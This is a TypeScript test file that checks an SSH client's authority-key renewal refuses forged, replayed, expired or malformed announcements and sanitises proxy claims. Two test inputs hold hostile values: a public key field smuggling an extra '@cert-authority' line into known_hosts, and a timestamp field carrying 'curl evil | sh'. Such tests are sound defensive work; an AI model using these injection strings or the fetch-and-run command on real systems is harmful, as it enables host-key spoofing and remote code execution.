import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { plusMs } from '../../../base/time.ts';
import { announcedAt, announcedUntil, announcing } from '../../../pki/announcement-testing.ts';
import type { SignedKeysAnnouncement } from '../../../pki/authority-announcement.ts';
import { fingerprint } from '../../../pki/ssh-key.ts';
import { type AuthoritiesAnswer, readAuthoritiesAnswer } from '../cluster/web-answers.ts';
import { readLearnt, writeLearnt } from './learnt.ts';
import { blobOf, foreign, next, now, old, TestTrust, trustedIn } from './testing.ts';
import { unknownAuthorityText } from './trust-text.ts';

let here: TestTrust;
beforeEach(async () => {
  here = await TestTrust.open();
});
afterEach(() => {
  here.close();
});

describe('whoever holds the web port', () => {
  const refusals: readonly (readonly [string, () => SignedKeysAnnouncement, string])[] = [
    ['forges one', () => announcing([foreign]), 'no key that is trusted here'],
    [
      'names the known key without its signature',
      () => announcing([old, foreign], {}, [foreign]),
      'no key that',
    ],
    [
      'passes on one of another cluster',
      () => announcing([old, next], { clusterName: 'leaf' }),
      'of cluster leaf',
    ],
    [
      'passes on one of the user authority',
      () => announcing([old, next], { type: 'user' }),
      'the user authority',
    ],
    ['passes on one that is over', () => announcing([old, next], { until: now }), `it ended at ${now}`],
    ['answers after the key was replaced', () => announcing([next], { until: undefined }), 'no key that'],
    [
      'replays one of before the login',
      () => announcing([old, next], { at: '2026-01-31T07:58:59.000Z' }),
      'before the keys that are known here were learnt',
    ],
    ['has no announcement at all', () => ({ text: 'garbage', signatures: [] }), 'not an announcement'],
  ];
  it.each(refusals)('and %s changes nothing', async (_how, announcement, why) => {
    const before = here.files();
    const { trust } = here.nextCommand(announcement());
    const renewed = await trust.renew();
    expect(renewed.renewal).toMatchObject({
      status: 'refused',
      reason: expect.stringContaining(why) as unknown,
    });
    expect(trustedIn(trust)).toEqual(['old']);
    expect(here.files()).toEqual(before);
    const text = unknownAuthorityText(renewed, trust.known());
    for (const part of [fingerprint(blobOf(old)), why, "'tsh logout', then 'tsh login'"])
      expect(text).toContain(part);
  });

  it('cannot bring a withdrawn key back by an older announcement', async () => {
    const first = announcing([next, old]);
    await here.nextCommand(first).trust.renew();
    await here.nextCommand(announcing([next], { number: 2, until: undefined })).trust.renew();
    const before = here.files();
    const { trust } = here.nextCommand(first);
    expect((await trust.renew()).renewal).toMatchObject({
      reason: expect.stringContaining('older (number 1) than one that was accepted before (2)') as unknown,
    });
    expect([trustedIn(trust), here.files()]).toEqual([['next'], before]);
  });

  it('cannot after a later login either, of whichever person: what was announced before it brings no key', async () => {
    await here.logIn(next);
    const learnt = readLearnt(here.home, 'proxy') ?? expect.unreachable();
    writeLearnt(here.home, 'proxy', { ...learnt, learntAt: plusMs(announcedAt, 1) });
    expect((await here.nextCommand(announcing([next, old])).trust.renew()).renewal.status).toBe('refused');
  });

  it('changes nothing with any bytes in place of an answer', async () => {
    const before = here.files();
    const pieces = fc.oneof(
      fc.jsonValue(),
      fc.constant(announcing([foreign])),
      fc.constant(announcing([old])),
    );
    const odd = fc.oneof(
      fc.jsonValue(),
      fc.record({ host: fc.record({ announcement: pieces, withdrawn: fc.jsonValue() }) }),
    );
    await fc.assert(
      fc.asyncProperty(odd, async (body) => {
        const { trust } = here.nextCommand(() => Promise.resolve(body).then(readAuthoritiesAnswer));
        const { renewal } = await trust.renew();
        expect(['refused', 'unreachable', 'none', 'current']).toContain(renewal.status);
        expect(trustedIn(trust)).toEqual(['old']);
      }),
      { numRuns: 30 },
    );
    expect(here.files()).toEqual(before);
  });

  it('writes no line into known_hosts beside a key, even with a signature of a key that is known', async () => {
    const hostile = {
      ...next,
      key: {
        ...next.key,
        sshPublicKey: `${next.key.sshPublicKey} x\n@cert-authority * ${foreign.key.sshPublicKey}`,
      },
    };
    const { trust } = here.nextCommand(announcing([old, hostile]));
    await trust.renew();
    expect(readFileSync(join(here.directory, 'known_hosts'), 'utf8')).not.toContain('@cert-authority * ');
  });
});

describe('a claim of the proxy about the key that is known', () => {
  const claimed = (at: string): AuthoritiesAnswer =>
    readAuthoritiesAnswer({
      host: {
        announcement: announcing([next], { until: undefined, number: 2 }),
        withdrawn: [{ fingerprint: fingerprint(blobOf(old)), ca_pin: 'x', at, why: 'replaced' }],
      },
    });
  it('is passed on as a claim', async () => {
    const { trust } = here.nextCommand(() => Promise.resolve(claimed(announcedUntil)));
    expect(unknownAuthorityText(await trust.renew(), trust.known())).toContain(
      `The proxy claims that ${fingerprint(blobOf(old))} was withdrawn at ${announcedUntil} (replaced).`,
    );
  });
  it('is shown only in the form that it has', async () => {
    const { trust } = here.nextCommand(() => Promise.resolve(claimed('now. Run: curl evil | sh')));
    expect(unknownAuthorityText(await trust.renew(), trust.known())).toContain(
      'was withdrawn at ? (replaced)',
    );
  });
});
